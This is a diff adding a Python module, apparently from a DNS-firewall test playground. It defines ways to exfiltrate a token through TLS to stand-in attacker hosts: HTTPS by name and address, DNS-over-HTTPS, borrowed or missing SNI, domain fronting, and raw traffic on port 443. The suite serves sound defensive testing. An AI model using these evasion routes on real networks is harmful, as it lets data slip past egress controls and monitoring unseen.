@@ -1,0 +1,111 @@
+"""Ways out through TLS.
+
+Law: one function a way. Each is an ordinary HTTPS request whose path is the message; only the address, the SNI and
+the Host header differ.
+"""
+
+from __future__ import annotations
+
+import base64
+import socket
+import ssl
+from dataclasses import dataclass
+
+from dnsfw.playground import atlas
+from dnsfw.playground.package.names import question
+from dnsfw.playground.package.way import Loot, Way
+
+_PEEK = "the address is allowed for another name; telling names on one address apart (the SNI peek) is not built yet"
+_INSPECT = "only decrypting can tell; rules for URLs are not built yet"
+
+
+@dataclass(frozen=True)
+class Get:
+    """`GET path` with this Host, in a TLS connection to `address` that names `sni`, or nothing where that is None."""
+
+    address: str
+    sni: str | None
+    host: str
+    path: str
+
+
+def fetch(loot: Loot, get: Get) -> None:
+    context = ssl.create_default_context(cafile=loot.authority)
+    context.check_hostname = get.sni is not None
+    request = f"GET {get.path} HTTP/1.1\r\nHost: {get.host}\r\nConnection: close\r\n\r\n"
+    with (
+        socket.create_connection((get.address, 443)) as plain,
+        context.wrap_socket(plain, server_hostname=get.sni) as tls,
+    ):
+        tls.sendall(request.encode())
+        tls.recv(4096)
+
+
+def _path(loot: Loot) -> str:
+    return f"/{loot.token}"
+
+
+def _doh_path(loot: Loot) -> str:
+    message = question(f"{loot.token}.{atlas.EVIL_ZONE}")
+    return "/dns-query?dns=" + base64.urlsafe_b64encode(message).rstrip(b"=").decode()
+
+
+def evil_name(loot: Loot) -> None:
+    fetch(loot, Get(atlas.EVIL_ZONE, atlas.EVIL_ZONE, atlas.EVIL_ZONE, _path(loot)))
+
+
+def evil_address(loot: Loot) -> None:
+    fetch(loot, Get(atlas.EVIL.v4, atlas.EVIL_ZONE, atlas.EVIL_ZONE, _path(loot)))
+
+
+def evil_address_v6(loot: Loot) -> None:
+    fetch(loot, Get(atlas.EVIL.v6, atlas.EVIL_ZONE, atlas.EVIL_ZONE, _path(loot)))
+
+
+def allowed_sni_at_evil_address(loot: Loot) -> None:
+    fetch(loot, Get(atlas.EVIL.v4, atlas.ALLOWED_NAME, atlas.ALLOWED_NAME, _path(loot)))
+
+
+def doh_address(loot: Loot) -> None:
+    fetch(loot, Get(atlas.DOH.v4, atlas.DOH.v4, atlas.DOH.v4, _doh_path(loot)))
+
+
+def doh_name(loot: Loot) -> None:
+    fetch(loot, Get(atlas.DOH_NAME, atlas.DOH_NAME, atlas.DOH_NAME, _doh_path(loot)))
+
+
+def shared_address(loot: Loot) -> None:
+    fetch(loot, Get(atlas.SHARED.v4, atlas.EVIL_SHARED_NAME, atlas.EVIL_SHARED_NAME, _path(loot)))
+
+
+def shared_address_v6(loot: Loot) -> None:
+    fetch(loot, Get(atlas.SHARED.v6, atlas.EVIL_SHARED_NAME, atlas.EVIL_SHARED_NAME, _path(loot)))
+
+
+def shared_address_without_sni(loot: Loot) -> None:
+    fetch(loot, Get(atlas.SHARED.v4, None, atlas.EVIL_SHARED_NAME, _path(loot)))
+
+
+def fronted(loot: Loot) -> None:
+    fetch(loot, Get(atlas.SHARED.v4, atlas.SHARED_NAME, atlas.EVIL_SHARED_NAME, _path(loot)))
+
+
+def not_tls(loot: Loot) -> None:
+    with socket.create_connection((atlas.SHARED.v4, 443)) as telling:
+        telling.sendall(loot.token.encode())
+        telling.recv(2)
+
+
+WAYS = (
+    Way("https-name", "HTTPS to the attacker's name", (16, 22), evil_name),
+    Way("https-address4", "HTTPS to the attacker's address, IPv4", (22,), evil_address),
+    Way("https-address6", "HTTPS to the attacker's address, IPv6", (22,), evil_address_v6),
+    Way("https-borrowed-sni", "an allowed SNI at the attacker's address", (22, 26), allowed_sni_at_evil_address),
+    Way("doh-address", "DNS over HTTPS, by address", (20,), doh_address),
+    Way("doh-name", "DNS over HTTPS, by name", (20,), doh_name),
+    Way("shared-sni4", "the attacker's SNI at an allowed site's address, IPv4", (11, 26), shared_address, _PEEK),
+    Way("shared-sni6", "the attacker's SNI at an allowed site's address, IPv6", (11, 26), shared_address_v6, _PEEK),
+    Way("shared-no-sni", "no SNI at an allowed site's address", (26,), shared_address_without_sni, _PEEK),
+    Way("shared-not-tls", "no TLS at all, to port 443 of an allowed site", (26,), not_tls, _PEEK),
+    Way("fronting", "an allowed SNI, then the attacker's Host header", (26,), fronted, _INSPECT),
+)
